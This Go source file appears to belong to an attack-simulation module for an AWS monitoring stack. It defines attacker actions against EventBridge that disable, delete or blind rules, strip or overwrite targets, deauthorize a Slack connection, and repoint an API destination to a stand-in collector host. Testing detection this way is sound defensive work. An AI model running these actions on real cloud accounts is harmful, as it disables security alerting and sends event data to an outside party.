package act

import (
	"context"
	"fmt"
	"slices"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge/types"

	"trailkeeper/lambda/internal/simulate/stage"
)

// onEvents is something that the attacker does to EventBridge.
func onEvents(do func(context.Context, *eventbridge.Client, *stage.Stage) error) Act {
	return func(ctx context.Context, s *stage.Stage) error {
		return do(ctx, eventbridge.NewFromConfig(attacker(s)), s)
	}
}

// attacker is how the attacker's clients are set up.
func attacker(s *stage.Stage) aws.Config { return stage.Config(s.Cloud, s.Region, stage.AttackerKey) }

// ruleOf is the name of a rule of the stack.
func ruleOf(s *stage.Stage, rule string) *string { return aws.String(s.Stack + "-" + rule) }

// DisablesRule disables a rule of the stack.
func DisablesRule(rule string) Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		_, err := c.DisableRule(ctx, &eventbridge.DisableRuleInput{Name: ruleOf(s, rule)})
		return err
	})
}

// RemovesTargets takes the targets of a rule of the stack away; but keeps some, by their IDs.
func RemovesTargets(rule string, but ...string) Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		out, err := c.ListTargetsByRule(ctx, &eventbridge.ListTargetsByRuleInput{Rule: ruleOf(s, rule)})
		if err != nil {
			return err
		}
		var ids []string
		for _, t := range out.Targets {
			if !slices.Contains(but, aws.ToString(t.Id)) {
				ids = append(ids, *t.Id)
			}
		}
		_, err = c.RemoveTargets(ctx, &eventbridge.RemoveTargetsInput{Rule: ruleOf(s, rule), Ids: ids})
		return err
	})
}

// DeletesRule deletes a rule of the stack, whose targets must go first.
func DeletesRule(rule string) Act {
	return InOrder(RemovesTargets(rule), onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		_, err := c.DeleteRule(ctx, &eventbridge.DeleteRuleInput{Name: ruleOf(s, rule)})
		return err
	}))
}

// RepointsRule has a rule of the stack match nothing that happens.
func RepointsRule(rule string) Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		_, err := c.PutRule(ctx, &eventbridge.PutRuleInput{
			Name:         ruleOf(s, rule),
			State:        types.RuleStateEnabled,
			EventPattern: aws.String(`{"source":["nobody"]}`),
		})
		return err
	})
}

// PoisonsTarget has EventBridge hand a target of a rule of the stack the same text for every event.
func PoisonsTarget(rule, id string) Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		out, err := c.ListTargetsByRule(ctx, &eventbridge.ListTargetsByRuleInput{Rule: ruleOf(s, rule)})
		if err != nil {
			return err
		}
		for _, t := range out.Targets {
			if aws.ToString(t.Id) == id {
				t.InputTransformer, t.Input = nil, aws.String(`{}`)
				in := &eventbridge.PutTargetsInput{Rule: ruleOf(s, rule), Targets: []types.Target{t}}
				_, err = c.PutTargets(ctx, in)
				return err
			}
		}
		return fmt.Errorf("the rule %s has no target %s", rule, id)
	})
}

// Deauthorizes deauthorizes the stack's connection, whose secret EventBridge then forgets.
func Deauthorizes() Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		_, err := c.DeauthorizeConnection(ctx, &eventbridge.DeauthorizeConnectionInput{Name: ruleOf(s, "slack")})
		return err
	})
}

// RepointsDestination has one of the stack's API destinations post elsewhere.
func RepointsDestination(name string) Act {
	return onEvents(func(ctx context.Context, c *eventbridge.Client, s *stage.Stage) error {
		_, err := c.UpdateApiDestination(ctx, &eventbridge.UpdateApiDestinationInput{
			Name:               ruleOf(s, name),
			InvocationEndpoint: aws.String("https://collector.example.net/"),
		})
		return err
	})
}
